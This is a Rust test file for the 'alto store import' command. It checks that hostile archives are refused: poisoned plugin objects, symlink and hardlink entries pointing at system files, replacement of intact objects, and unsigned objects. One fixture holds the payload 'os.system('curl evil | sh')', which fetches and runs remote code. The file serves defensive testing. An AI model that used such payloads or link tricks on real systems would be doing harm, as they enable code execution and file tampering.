//! `alto store import` of hostile archives, written with Python's tarfile as
//! another tool (or an attacker) would: objects whose record does not match
//! their name, links, objects that would replace intact ones, and unsigned
//! objects in a project that requires signatures.

mod common;

use common::{Machine, Project};
use serde_json::{Value, json};

const ROOT: &str = "alto-export-v1";

/// A plugin object whose record is self-consistent: the derivation hashes to
/// the key, the content to the record's blake3 and size.
fn object(pip_url: &str, content: &[u8]) -> (String, Value) {
    let derivation = json!({"kind": "plugin", "pip_url": pip_url, "os": "linux"});
    let key = alto::eval::Key::of(&derivation).to_string();
    let meta = json!({
        "format": "alto-object/v1",
        "key": key,
        "kind": "plugin",
        "derivation": derivation,
        "blake3": blake3::hash(content).to_hex().to_string(),
        "size": content.len(),
        "created": "2026-11-24T12:00:00Z",
        "builder": {"alto": "0.1.0", "host": "elsewhere"},
    });
    (key, meta)
}

/// Entries for Python: `("file", name, bytes)`, `("symlink", name, target)`,
/// `("hardlink", name, target)`, `("dir", name, "")`.
fn tarfile(dir: &std::path::Path, entries: &[(&str, String, Vec<u8>)]) -> std::path::PathBuf {
    let spec: Vec<Value> = entries
        .iter()
        .map(|(kind, name, data)| json!({"kind": kind, "name": name, "data": data}))
        .collect();
    let tar = dir.join(format!("{}.tar", entries.len()));
    let script = r#"
import io, json, sys, tarfile
spec = json.load(sys.stdin)
with tarfile.open(sys.argv[1], "w", format=tarfile.PAX_FORMAT) as t:
    for e in spec:
        info = tarfile.TarInfo(e["name"])
        data = bytes(e["data"])
        if e["kind"] == "file":
            info.size = len(data)
            info.mode = 0o755
            t.addfile(info, io.BytesIO(data))
        elif e["kind"] == "dir":
            info.type = tarfile.DIRTYPE
            info.mode = 0o755
            t.addfile(info)
        else:
            info.type = tarfile.SYMTYPE if e["kind"] == "symlink" else tarfile.LNKTYPE
            info.linkname = data.decode()
            t.addfile(info)
"#;
    let mut child = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(&tar)
        .stdin(std::process::Stdio::piped())
        .spawn()
        .expect("python3");
    serde_json::to_writer(child.stdin.take().unwrap(), &spec).unwrap();
    assert!(child.wait().unwrap().success());
    let out = tar.with_extension("tar.zst");
    std::fs::write(
        &out,
        zstd::encode_all(std::fs::read(&tar).unwrap().as_slice(), 3).unwrap(),
    )
    .unwrap();
    out
}

fn entries_of(key: &str, content: &[u8], meta: &Value) -> Vec<(&'static str, String, Vec<u8>)> {
    vec![
        ("dir", ROOT.to_string(), vec![]),
        ("file", format!("{ROOT}/{key}"), content.to_vec()),
        (
            "file",
            format!("{ROOT}/{key}.meta.json"),
            serde_json::to_vec(meta).unwrap(),
        ),
    ]
}

/// `alto --json store import FILE`: (exit code, stdout, stderr with
/// miette's wrapped lines joined).
fn import(p: &Project, m: &Machine, file: &std::path::Path) -> (i32, String, String) {
    let (code, out, err) = p.run_on(m, &["--json", "store", "import", file.to_str().unwrap()]);
    (code, out, err.replace("\n  | ", ""))
}

/// A machine holding one valid object, imported from a clean archive.
fn machine_with(p: &Project, key: &str, content: &[u8], meta: &Value) -> Machine {
    let m = Machine::new(false);
    let clean = tarfile(p.path(), &entries_of(key, content, meta));
    let (code, out, err) = import(p, &m, &clean);
    assert_eq!(code, 0, "{err}");
    let out: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(out["imported"], json!([key]), "{out}");
    assert_eq!(std::fs::read(m.objects().join(key)).unwrap(), content);
    m
}

fn tmp_is_empty(m: &Machine) -> bool {
    std::fs::read_dir(m.cache.path().join("store/v1/tmp"))
        .unwrap()
        .count()
        == 0
}

#[test]
fn a_poisoned_object_with_a_self_consistent_record_is_refused() {
    let p = Project::new(&[]);
    let (key, meta) = object("tap-x==1.0", b"the real plugin");
    let m = machine_with(&p, &key, b"the real plugin", &meta);
    // The real key, other content, and a record that hashes and sizes it
    // correctly, but whose derivation is not the one the key was made from.
    let evil = b"import os; os.system('curl evil | sh')";
    let (_, mut poisoned) = object("tap-x==1.0 evil-dep", evil);
    poisoned["key"] = json!(key);
    let archive = tarfile(p.path(), &entries_of(&key, evil, &poisoned));
    let (code, _, err) = import(&p, &m, &archive);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains(&key)
            && err.contains("hashes to")
            && err.contains("nothing from it was imported"),
        "{err}"
    );
    assert_eq!(
        std::fs::read(m.objects().join(&key)).unwrap(),
        b"the real plugin"
    );
    // Nor does it get in where there was nothing.
    let fresh = Machine::new(false);
    assert_eq!(import(&p, &fresh, &archive).0, 1);
    assert!(!fresh.objects().join(format!("{key}.meta.json")).exists());
    assert!(tmp_is_empty(&m) && tmp_is_empty(&fresh));
}

#[test]
fn symlink_and_hardlink_entries_are_refused_by_name() {
    let p = Project::new(&[]);
    // A record for empty content, as a link entry carries none.
    let (key, meta) = object("tap-x==1.0", b"");
    for (kind, target) in [("symlink", "/usr/bin/python3"), ("hardlink", "etc/passwd")] {
        let m = Machine::new(false);
        let mut entries = entries_of(&key, b"", &meta);
        entries[1] = (kind, format!("{ROOT}/{key}"), target.as_bytes().to_vec());
        let archive = tarfile(p.path(), &entries);
        let (code, _, err) = import(&p, &m, &archive);
        assert_eq!(code, 1, "{kind}: {err}");
        assert!(
            err.contains(&format!("`{ROOT}/{key}`")) && err.contains("link"),
            "{kind}: {err}"
        );
        assert!(!m.objects().join(format!("{key}.meta.json")).exists());
        assert!(!m.objects().join(&key).exists());
        assert!(tmp_is_empty(&m));
    }
}

#[test]
fn a_valid_object_never_replaces_an_intact_one() {
    let p = Project::new(&[]);
    let (key, meta) = object("tap-x==1.0", b"the real plugin");
    let m = machine_with(&p, &key, b"the real plugin", &meta);
    // Same key, same derivation (so it recomputes), other content and a
    // record to match it: nothing here can tell which is the real one, so
    // the one already here stays.
    let other = b"another build of the same inputs";
    let (_, mut record) = object("tap-x==1.0", other);
    record["key"] = json!(key);
    let archive = tarfile(p.path(), &entries_of(&key, other, &record));
    let (code, out, err) = import(&p, &m, &archive);
    assert_eq!(code, 0, "{err}");
    let out: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(out["present"], json!([key]), "{out}");
    assert_eq!(out["imported"], json!([]), "{out}");
    assert_eq!(
        std::fs::read(m.objects().join(&key)).unwrap(),
        b"the real plugin"
    );
    let (code, _, err) = p.run_on(&m, &["store", "import", archive.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains(&format!("{key}: already present")), "{err}");
}

#[test]
fn unsigned_objects_are_refused_where_the_project_trusts_keys() {
    let (key, meta) = object("tap-x==1.0", b"plugin");
    let keys = Project::new(&[]);
    let m = Machine::new(false);
    let (code, public, err) = keys.run_on(
        &m,
        &["store", "keygen", "--name", "team", "-o", "team.secret"],
    );
    assert_eq!(code, 0, "{err}");
    let p = Project::new(&[(
        "alto.yaml",
        &format!(
            "default:\n  project_name: signed\n  trusted_public_keys: [\"{}\"]\n",
            public.trim()
        ),
    )]);
    let archive = tarfile(p.path(), &entries_of(&key, b"plugin", &meta));
    let (code, _, err) = import(&p, &m, &archive);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("no valid signature from a trusted key") && err.contains(&key),
        "{err}"
    );
    assert!(!m.objects().join(format!("{key}.meta.json")).exists());
    assert!(tmp_is_empty(&m));
    // Outside a project nothing says which keys to trust: alto says so and
    // accepts what verifies without signatures.
    let (code, out, err) = import(&keys, &m, &archive);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("signatures are not checked"), "{err}");
    let out: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(out["imported"], json!([key]));
    assert_eq!(out["signatures_checked"], false);
}
